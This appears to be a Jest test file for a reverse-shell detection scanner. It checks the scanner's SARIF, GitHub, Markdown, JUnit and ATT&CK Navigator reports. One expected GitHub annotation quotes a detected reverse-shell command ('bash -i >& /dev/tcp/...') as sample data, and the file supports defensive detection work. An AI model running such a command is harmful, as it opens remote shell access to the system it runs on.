// The formats that are made for one reader each, read back as that reader does.
import { describe, expect, test } from '@jest/globals';
import type { Alert } from '../../src/alert/index.js';
import { alertOf, eventAt, INTERACTIVE_SHELL, ruleWith } from '../support/alerts.js';
import { reporterOf, reportOf } from '../support/report.js';
import { sarifErrors } from '../support/sarif.js';
import { parseXml, type XmlElement } from '../support/xml.js';
import { ALERTS } from './samples.js';
import { finishedRun, summaryWith } from './summaries.js';

const all = Object.values(ALERTS);

/** So many alerts of one rule. */
function many(count: number, severity: Alert['rule']['severity'] = 'high'): readonly Alert[] {
  const rule = ruleWith({ severity });
  return Array.from({ length: count }, (_, n) =>
    alertOf(`many ${n}`, rule, [eventAt(n + 1, INTERACTIVE_SHELL)]),
  );
}

const BAD_LINE = {
  code: 'RS301',
  severity: 'warning',
  message: 'line is not JSON',
  place: { name: 'events.ndjson', line: 7 },
} as const;

describe('SARIF', () => {
  interface Log {
    readonly runs: readonly {
      readonly results: readonly Record<string, unknown>[];
      readonly invocations: readonly {
        readonly executionSuccessful: boolean;
        readonly toolExecutionNotifications: readonly unknown[];
      }[];
      readonly tool: { readonly driver: { readonly rules: readonly Record<string, unknown>[] } };
    }[];
  }

  async function logOf(
    ...args: Parameters<typeof reportOf> extends [unknown, ...infer Rest] ? Rest : never
  ) {
    const log = JSON.parse(await reportOf('sarif', ...args)) as Log;
    expect(sarifErrors(log)).toBeNull();
    return log.runs[0]!;
  }

  test.each([[[]], [all.slice(0, 1)], [all]])('is as the standard says (%#)', async (alerts) => {
    const { results, tool } = await logOf(alerts);
    expect(results).toHaveLength(alerts.length);
    expect(tool.driver.rules).toHaveLength(new Set(alerts.map(({ rule }) => rule.id)).size);
    for (const { ruleId, ruleIndex } of results) {
      expect(tool.driver.rules[Number(ruleIndex)]?.['id']).toBe(ruleId);
    }
  });

  test('what code scanning shows of a sequence', async () => {
    const alert = ALERTS['sequence']!;
    const { results, tool } = await logOf([alert]);
    const at = (line: number) => ({
      physicalLocation: {
        artifactLocation: { uri: 'samples/attack.ndjson' },
        region: { startLine: line },
      },
    });
    expect(results[0]).toMatchObject({
      level: 'warning',
      message: { text: alert.reason },
      locations: [at(118)],
      relatedLocations: [
        { id: 1, ...at(118), message: { text: 'event 1: connection_attempted' } },
        { id: 2, ...at(121), message: { text: 'event 2: exec' } },
      ],
      partialFingerprints: { 'rshellScan/v1': alert.id },
    });
    expect(tool.driver.rules[0]).toMatchObject({
      id: alert.rule.id,
      shortDescription: { text: 'Potential Reverse Shell' },
      help: { markdown: '## Triage\n\nLook at the destination.' },
      helpUri: 'https://example.org/reverse-shells',
      properties: {
        'security-severity': '4.7',
        tags: [
          'security',
          'TA0002',
          'TA0011',
          'T1059.004',
          'T1071',
          'OS: Linux',
          'Tactic: Execution',
        ],
      },
    });
  });

  test.each([
    ['critical', 'error'],
    ['high', 'error'],
    ['medium', 'warning'],
    ['low', 'warning'],
  ] as const)('%s is %s', async (severity, level) => {
    expect((await logOf(many(1, severity))).results[0]).toMatchObject({ level });
  });

  test('what was not read is a notification, and a run that was stopped is no success', async () => {
    const run = finishedRun([], {
      summary: summaryWith({ partial: true }),
      diagnostics: {
        shown: [BAD_LINE],
        folded: [{ code: 'RS301', file: 'events.ndjson', count: 9 }],
      },
    });
    const { invocations } = await logOf([], { run });
    expect(invocations).toMatchObject([
      {
        executionSuccessful: false,
        toolExecutionNotifications: [
          { descriptor: { id: 'RS301' }, level: 'warning', message: { text: 'line is not JSON' } },
          { message: { text: 'and 9 more RS301' } },
        ],
      },
    ]);
  });
});

describe('GitHub', () => {
  const levels = (text: string): readonly string[] =>
    text
      .trim()
      .split('\n')
      .map((line) => /^::(\w+)/.exec(line)?.[1] ?? line);

  test('an annotation an alert, by severity', async () => {
    const [first, ...others] = (await reportOf('github', all)).trim().split('\n');
    expect(others).toHaveLength(all.length - 1);
    expect(first).toBe(
      '::error file=samples/attack.ndjson,line=902,title=Potential Reverse Shell via Background Process::' +
        `${ALERTS['event']!.reason}%0Asetsid bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1%0AT1059.004, T1071`,
    );
  });

  test.each([
    [10, 10],
    [11, 10],
    [5000, 10],
  ])('of %i alerts of a level, %i lines', async (count, lines) => {
    const text = await reportOf('github', [...many(count), ...many(1, 'low')]);
    expect(levels(text)).toEqual([...Array.from({ length: lines }, () => 'error'), 'notice']);
    expect(text.includes('more errors')).toBe(count > 10);
  });

  test('the page of the run has what the annotations leave out, within a megabyte', async () => {
    const alerts = Array.from({ length: 400 }, (_, n) => {
      const rule = ruleWith({ id: `rule ${n}`, name: `Rule ${n} ${'💣'.repeat(200)}` });
      return many(30).map((alert) => ({
        ...alert,
        rule: { ...alert.rule, id: rule.id, name: rule.name },
      }));
    }).flat();
    const reporter = await reporterOf('github');
    for (const alert of alerts) reporter.alert(alert);
    const page = reporter.stepSummary?.(finishedRun(alerts)) ?? '';
    expect(page).toMatch(/^# rshell-scan: 12,000 alerts\n/);
    expect(page).toContain('and 10 more alerts of this rule');
    expect(page).toMatch(/The alerts of \d+ more rules are left out here/);
    expect(Buffer.byteLength(page)).toBeLessThan(1024 * 1024);
  });
});

describe('Markdown', () => {
  test('what was found, then the alerts of each rule', async () => {
    const page = await reportOf('markdown', all);
    const headings = page.split('\n').filter((line) => line.startsWith('#'));
    expect(headings[0]).toBe(`# rshell-scan: ${all.length} alerts`);
    expect(headings[1]).toBe('## Potential Reverse Shell via Background Process');
    expect(page).toContain('[T1059.004](https://attack.mitre.org/techniques/T1059/004/)');
    expect(page).toContain('| samples/attack.ndjson:118, :121 |');
    // Rows of one table have as many cells.
    for (const table of page.split('\n\n').filter((part) => part.startsWith('|'))) {
      const cells = table
        .trim()
        .split('\n')
        .map((row) => row.split(/(?<!\\)\|/).length);
      expect(new Set(cells).size).toBe(1);
    }
  });

  test('a rule with very many alerts is told to have them', async () => {
    const page = await reportOf('markdown', many(1234));
    expect(page).toContain('# rshell-scan: 1,234 alerts');
    expect(page).toContain('and 1,134 more alerts of this rule');
  });

  test('no alerts; what was not read', async () => {
    const run = finishedRun([], { diagnostics: { shown: [BAD_LINE], folded: [] } });
    const page = await reportOf('markdown', [], { run });
    expect(page).toMatch(/^# rshell-scan: no alerts\n/);
    expect(page).toContain('48 of 61 rules ran on 12,000 events');
    expect(page).toContain('- RS301: line is not JSON (events.ndjson:7)');
  });
});

describe('JUnit', () => {
  const casesOf = (root: XmlElement): readonly XmlElement[] =>
    root.children.flatMap(({ children }) => children);

  test('a case for each rule: passed, failed, or skipped where the input could not match', async () => {
    const alert = ALERTS['sequence']!;
    const quiet = { ...alert.rule, id: 'quiet', name: 'Quiet' };
    const blind = { ...alert.rule, id: 'blind', name: 'Blind' };
    const silent = [{ id: 'blind', name: 'Blind', reason: 'no-category', detail: 'file' } as const];
    const run = finishedRun([alert], {
      rules: [quiet, alert.rule, blind],
      summary: summaryWith({ alerts: [alert], silent }),
    });
    const root = parseXml(await reportOf('junit', [alert], { run }));
    expect(root.attributes).toMatchObject({ tests: '4', failures: '1', errors: '0', skipped: '1' });
    expect(
      casesOf(root).map(({ attributes, children }) => [
        attributes['name'],
        children[0]?.name ?? '',
      ]),
    ).toEqual([
      ['Quiet', ''],
      ['Potential Reverse Shell', 'failure'],
      ['Blind', 'skipped'],
      ['all input was read and all rules were loaded', ''],
    ]);
    const failure = casesOf(root)[1]?.children[0];
    expect(failure?.attributes['message']).toBe('1 alert (medium, risk 47)');
    expect(failure?.text).toContain('web-01  bash -i  samples/attack.ndjson:118, :121');
    expect(casesOf(root)[2]?.children[0]?.attributes['message']).toBe('no event of category file');
  });

  test('input that was not read is an error', async () => {
    const run = finishedRun([], {
      summary: summaryWith({ partial: true, losses: 1, rules: { inError: 2 } }),
      diagnostics: { shown: [{ ...BAD_LINE, severity: 'error' }], folded: [] },
    });
    const [input] = casesOf(parseXml(await reportOf('junit', [], { run })));
    expect(input?.children[0]).toMatchObject({
      name: 'error',
      attributes: { message: 'the run was stopped before the end of its input' },
      text: 'Input was gone before it could be read, 1 time\n2 rule files in error\nRS301: line is not JSON (events.ndjson)',
    });
  });

  test('very many alerts of a rule are counted', async () => {
    const [failed] = casesOf(parseXml(await reportOf('junit', many(500))));
    expect(failed?.children[0]?.text.split('\n')).toHaveLength(51);
    expect(failed?.children[0]?.text).toMatch(/\nand 450 more alerts$/);
  });
});

describe('Navigator', () => {
  test('a layer of version 4.5 in which alerts are the score', async () => {
    const alerts = [...many(3), ALERTS['event']!];
    const layer: unknown = JSON.parse(await reportOf('navigator', alerts));
    const cell = (techniqueID: string, tactic: string) => ({
      techniqueID,
      tactic,
      score: 4,
      comment: 'Potential Reverse Shell (3) and Potential Reverse Shell via Background Process (1)',
      enabled: true,
      showSubtechniques: techniqueID === 'T1059',
    });
    expect(layer).toEqual({
      name: 'rshell-scan: alerts',
      description: '4 alerts of 2 rules; the score is the number of alerts.',
      domain: 'enterprise-attack',
      versions: { attack: expect.stringMatching(/^\d+$/), navigator: '4.9.0', layer: '4.5' },
      sorting: 3,
      hideDisabled: false,
      gradient: { colors: expect.any(Array), minValue: 0, maxValue: 4 },
      techniques: [
        cell('T1059', 'execution'),
        cell('T1059.004', 'execution'),
        cell('T1071', 'command-and-control'),
      ],
    });
  });
});
